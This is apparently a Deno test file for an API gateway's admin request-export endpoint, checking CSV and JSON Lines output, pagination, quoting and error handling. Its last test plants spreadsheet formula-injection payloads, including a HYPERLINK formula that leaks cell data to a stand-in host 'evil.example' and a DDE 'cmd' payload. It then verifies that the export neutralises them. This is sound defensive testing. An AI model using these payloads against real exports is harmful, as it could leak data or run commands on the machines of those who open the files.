/** GET /admin/requests/export: CSV (RFC 4180) and JSON Lines of a filtered list, streamed by pages. */

import { assertEquals, assertOk } from "../../helpers/assert.ts";
import { ADMIN_TOKEN, postJson, serverTest } from "../../helpers/gateway.ts";
import { setupChat } from "../../helpers/text_setup.ts";
import { setupImages } from "../../helpers/image_setup.ts";

const RECORDS = 2_000;
const ODD_MODEL = 'we"ird,model\nname';

/** Parses RFC 4180 CSV (quoted fields with doubled quotes, CRLF between records). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(field);
      field = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += char;
  }
  assertEquals([field, row], ["", []], "the text ends with CRLF");
  return rows;
}

/** The export's body and the number of chunks it arrived in. */
async function exported(
  url: string,
  query: string,
): Promise<{ text: string; chunks: number; type: string }> {
  const response = await fetch(`${url}/admin/requests/export?${query}`, {
    headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
  });
  assertEquals(response.status, 200);
  const decoder = new TextDecoder();
  let text = "";
  let chunks = 0;
  for await (const chunk of response.body!) {
    chunks++;
    text += decoder.decode(chunk, { stream: true });
  }
  return { text, chunks, type: response.headers.get("content-type")! };
}

Deno.test(
  "export: 2,000 records as JSON Lines and CSV, in pages, equal to the list",
  serverTest,
  async () => {
    await using s = await setupChat();
    const odd = await postJson(s.gw, "/v1/chat/completions", s.key, {
      model: ODD_MODEL,
      messages: [{ role: "user", content: "hi" }],
    });
    await odd.body?.cancel();
    for (let sent = 1; sent < RECORDS; sent += 50) {
      await Promise.all(
        Array.from({ length: Math.min(50, RECORDS - sent) }, async () => {
          const response = await postJson(s.gw, "/v1/chat/completions", s.key, {
            model: "no-such-model",
            messages: [{ role: "user", content: "hi" }],
          });
          await response.body?.cancel();
        }),
      );
    }
    await s.gw.settle();
    const ids: string[] = [];
    let cursor = "";
    do {
      const page = (await s.gw.admin("GET", `/admin/requests?limit=1000&cursor=${cursor}`)).body;
      ids.push(...page.data.map((record: { id: string }) => record.id));
      cursor = page.cursor ?? "";
    } while (cursor);
    assertEquals(ids.length, RECORDS);

    const jsonl = await exported(s.gw.url, "format=jsonl");
    assertEquals(jsonl.type, "application/x-ndjson");
    const lines = jsonl.text.split("\n");
    assertEquals(lines.pop(), "");
    assertEquals(lines.map((line) => JSON.parse(line).id), ids);
    assertOk(jsonl.chunks >= 4, `arrived in ${jsonl.chunks} chunks: one per page of 500 at least`);

    const csv = await exported(s.gw.url, "format=csv");
    assertEquals(csv.type, "text/csv; charset=utf-8");
    const [header, ...rows] = parseCsv(csv.text);
    assertEquals(header.slice(0, 3), ["id", "at", "interface"]);
    assertEquals(rows.length, RECORDS);
    assertOk(rows.every((row) => row.length === header.length), "every row has every column");
    assertEquals(rows.map((row) => row[0]), ids);
    const model = header.indexOf("model");
    assertEquals(rows.filter((row) => row[model] === ODD_MODEL).length, 1);
    assertOk(csv.text.includes('"we""ird,model\nname"'), "quoted with the quote doubled");
    assertOk(csv.chunks >= 4, `arrived in ${csv.chunks} chunks`);

    const filtered = await exported(s.gw.url, "format=csv&model=no-such-model");
    assertEquals(parseCsv(filtered.text).length, 1 + RECORDS - 1);
    const ascending = await exported(s.gw.url, "format=jsonl&order=asc&status=404");
    const ascendingIds = ascending.text.split("\n").filter(Boolean).map((l) => JSON.parse(l).id);
    assertEquals(ascendingIds, [...ids].reverse(), "every request was a 404");
  },
);

Deno.test(
  "export: an empty list is a header row only; a bad format is a 400 naming it",
  serverTest,
  async () => {
    await using s = await setupChat();
    const csv = await exported(s.gw.url, "format=csv&status=5xx");
    assertEquals(parseCsv(csv.text).length, 1);
    const jsonl = await exported(s.gw.url, "status=5xx");
    assertEquals(jsonl.text, "");
    const bad = await s.gw.admin("GET", "/admin/requests/export?format=xlsx");
    assertEquals([bad.status, bad.body.error.param], [400, "format"]);
  },
);

Deno.test(
  "export: client-chosen text that a spreadsheet would run as a formula is exported as text; numbers stay numbers",
  serverTest,
  async () => {
    await using s = await setupImages("openai-images");
    const formulaField = '=HYPERLINK("http://evil.example/?leak="&A1)';
    const image = await postJson(s.gw, "/v1/images/generations", s.key, {
      prompt: "a kite",
      [formulaField]: 1,
    });
    assertEquals(image.status, 200);
    await image.body?.cancel();
    const models = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\t=1+1"];
    for (const model of models) {
      const response = await postJson(s.gw, "/v1/chat/completions", s.key, {
        model,
        messages: [{ role: "user", content: "hi" }],
      });
      await response.body?.cancel();
    }
    await s.gw.settle();

    const csv = await exported(s.gw.url, "format=csv&order=asc");
    const [header, ...rows] = parseCsv(csv.text);
    const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
    const dangerous = /^[=+\-@\t\r]/;
    for (const row of rows) {
      for (const [index, cell] of row.entries()) {
        const numeric = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/.test(cell);
        assertOk(!dangerous.test(cell) || numeric, `${header[index]} opens as a formula: ${cell}`);
      }
    }
    assertOk(
      column("ignored_fields").includes(`'${formulaField}`),
      column("ignored_fields").join(" | "),
    );
    assertOk(csv.text.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1)"`));
    for (const model of models) assertOk(column("model").includes(`'${model}`), model);
    // The JSON Lines export is data, not a sheet: the names stay as they were sent.
    const jsonl = await exported(s.gw.url, "format=jsonl&order=asc");
    assertOk(jsonl.text.includes(JSON.stringify(formulaField)));
  },
);
